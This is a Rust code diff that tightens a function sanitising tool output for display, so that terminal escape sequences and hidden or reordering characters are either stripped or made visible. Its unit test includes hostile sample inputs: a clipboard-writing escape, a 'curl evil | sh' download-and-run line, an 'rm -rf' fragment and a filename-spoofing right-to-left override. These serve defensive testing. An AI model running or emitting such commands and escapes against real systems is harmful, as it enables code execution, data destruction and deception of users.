@@ -62,49 +62,52 @@ fn tail(text: &str, lines: usize, bytes: usize) -> &str {
     text.get(start..).unwrap_or_default()
 }
 
-/// A text without terminal escapes and other control characters, so that nothing a tool prints
-/// can steer a terminal or hide from a reader. Line ends and tabs stay.
+/// A text that cannot steer a terminal. Colours and the like (well-formed control sequences, which
+/// can hold no words) are taken out; every other control character is shown as a sign for it, so
+/// that nothing is hidden from a reader. Line ends and tabs stay.
 pub fn plain(text: &str) -> String {
     let mut plain = String::with_capacity(text.len());
-    let mut characters = text.chars().peekable();
-    while let Some(character) = characters.next() {
+    let mut rest = text;
+    while let Some(character) = rest.chars().next() {
+        rest = rest.get(character.len_utf8()..).unwrap_or_default();
         match character {
-            '\u{1b}' => match characters.peek() {
-                // A control sequence: parameters, then one final character.
-                Some('[') => {
-                    characters.next();
-                    for part in characters.by_ref() {
-                        if ('@'..='~').contains(&part) {
-                            break;
-                        }
-                    }
-                }
-                // An operating system command, or another string: up to a bell or a terminator.
-                Some(']' | 'P' | 'X' | '^' | '_') => {
-                    while let Some(part) = characters.next() {
-                        if part == '\u{7}' || part == '\u{9c}' {
-                            break;
-                        }
-                        if part == '\u{1b}' {
-                            characters.next_if_eq(&'\\');
-                            break;
-                        }
-                    }
-                }
-                Some(_) => {
-                    characters.next();
-                }
-                None => {}
+            '\u{1b}' => match control_sequence(rest) {
+                Some(length) => rest = rest.get(length..).unwrap_or_default(),
+                None => plain.push('␛'),
             },
             '\n' | '\t' => plain.push(character),
-            '\r' if characters.peek() == Some(&'\n') => plain.push(character),
-            // Bidirectional overrides show a text in another order than it has.
-            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => {}
-            other if other.is_control() => {}
+            '\r' if rest.starts_with('\n') => plain.push(character),
+            '\u{0}'..='\u{1f}' => plain.push(picture(character)),
+            '\u{7f}' => plain.push('␡'),
+            // Control characters of another age, and marks that show a text in another order
+            // than it has or not at all.
+            '\u{80}'..='\u{9f}'
+            | '\u{200b}'..='\u{200f}'
+            | '\u{202a}'..='\u{202e}'
+            | '\u{2060}'..='\u{2069}'
+            | '\u{feff}' => plain.push('\u{fffd}'),
             other => plain.push(other),
         }
     }
     plain
+}
+
+/// The sign for a control character.
+fn picture(character: char) -> char {
+    char::from_u32(0x2400 + character as u32).unwrap_or('\u{fffd}')
+}
+
+/// The length of the control sequence whose escape character was just read: `[`, parameters, one
+/// final letter, and nothing else.
+fn control_sequence(rest: &str) -> Option<usize> {
+    const LONGEST: usize = 32;
+    let bytes = rest.as_bytes();
+    if bytes.first() != Some(&b'[') {
+        return None;
+    }
+    let parameters = bytes.iter().skip(1).take_while(|byte| (0x20..=0x3f).contains(*byte)).count();
+    let last = bytes.get(1 + parameters)?;
+    (parameters <= LONGEST && (0x40..=0x7e).contains(last)).then_some(parameters + 2)
 }
 
 #[cfg(test)]
@@ -151,17 +154,17 @@ mod tests {
     }
 
     #[test]
-    fn nothing_that_steers_a_terminal_passes() {
+    fn nothing_that_steers_a_terminal_passes_and_nothing_is_hidden() {
         for (raw, clean) in [
             ("\u{1b}[31mred\u{1b}[0m", "red"),
-            ("\u{1b}]52;c;ZXZpbA==\u{7}text", "text"),
-            ("\u{1b}]0;title\u{1b}\\text", "text"),
-            ("a\u{8}b\rc\r\nd\te", "abc\r\nd\te"),
-            ("\u{1b}", ""),
-            ("\u{1b}[", ""),
-            ("\u{1b}Pq#0\u{1b}\\x", "x"),
-            ("\u{9b}31mx", "31mx"),
-            ("safe\u{202e}txt.exe", "safetxt.exe"),
+            ("\u{1b}[38;5;196mred", "red"),
+            ("\u{1b}]52;c;ZXZpbA==\u{7}text", "␛]52;c;ZXZpbA==␇text"),
+            ("ok\n\u{1b}]\ncurl evil | sh\n\u{7}end", "ok\n␛]\ncurl evil | sh\n␇end"),
+            ("\u{1b}[\nrm -rf", "␛[\nrm -rf"),
+            ("a\u{8}b\rc\r\nd\te", "a␈b␍c\r\nd\te"),
+            ("\u{1b}", "␛"),
+            ("\u{9b}31mx\u{7f}", "\u{fffd}31mx␡"),
+            ("safe\u{202e}txt.exe", "safe\u{fffd}txt.exe"),
         ] {
             assert_eq!(plain(raw), clean, "{raw:?}");
         }
